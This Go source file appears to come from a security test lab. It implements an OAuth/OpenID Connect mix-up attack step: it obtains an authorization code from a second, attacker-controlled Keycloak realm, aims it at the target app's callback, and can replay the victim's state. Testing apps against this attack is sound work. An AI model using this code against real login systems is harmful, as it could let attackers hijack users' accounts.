package lab

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/url"
)

// ErrNoAttackerProvider: no second provider is configured (the app's
// issuer is not a Keycloak realm with a neighbour "attacker").
var ErrNoAttackerProvider = errors.New("no attacker's provider is configured")

// AttackerCode logs mallory in at the attacker's own provider (a second
// realm in the same Keycloak), in an authorization request whose
// redirect_uri is the target's callback, and returns the redirect back to
// it: a code from the wrong provider, with iss naming that provider
// (RFC 9207). state is the state to send back ("" for none): in a mix-up
// the attacker's provider has received the victim's authorization request
// and returns its state (RFC 9700 section 4.4).
func (l *Lab) AttackerCode(ctx context.Context, callback, state string) (*url.URL, error) {
	if l.settings.AttackerIssuer == "" {
		return nil, ErrNoAttackerProvider
	}
	authEndpoint, err := l.authorizationEndpoint(ctx, l.settings.AttackerIssuer)
	if err != nil {
		return nil, err
	}
	q := url.Values{
		"response_type": {"code"},
		"client_id":     {l.settings.AttackerClientID},
		"redirect_uri":  {callback},
		"scope":         {"openid"},
	}
	if state != "" {
		q.Set("state", state)
	}
	authEndpoint.RawQuery = q.Encode()
	return l.CodeFrom(ctx, authEndpoint.String(), callback, l.settings.Mallory)
}

// authorizationEndpoint reads it from the provider's discovery document
// (OpenID Connect Discovery 1.0 section 4).
func (l *Lab) authorizationEndpoint(ctx context.Context, issuer string) (*url.URL, error) {
	target := issuer + "/.well-known/openid-configuration"
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, target, nil)
	if err != nil {
		return nil, err
	}
	resp, err := l.client(nil).Do(req)
	if err != nil {
		return nil, fmt.Errorf("discovery of the attacker's provider: %w", err)
	}
	defer resp.Body.Close()
	var doc struct {
		AuthorizationEndpoint string `json:"authorization_endpoint"`
	}
	if resp.StatusCode != http.StatusOK {
		return nil, fmt.Errorf("discovery of the attacker's provider at %s: HTTP %d (is the realm imported? keycloak/attacker-realm.json)", target, resp.StatusCode)
	}
	if err := json.NewDecoder(io.LimitReader(resp.Body, 1<<20)).Decode(&doc); err != nil || doc.AuthorizationEndpoint == "" {
		return nil, fmt.Errorf("discovery of the attacker's provider at %s: no authorization_endpoint", target)
	}
	return url.Parse(doc.AuthorizationEndpoint)
}
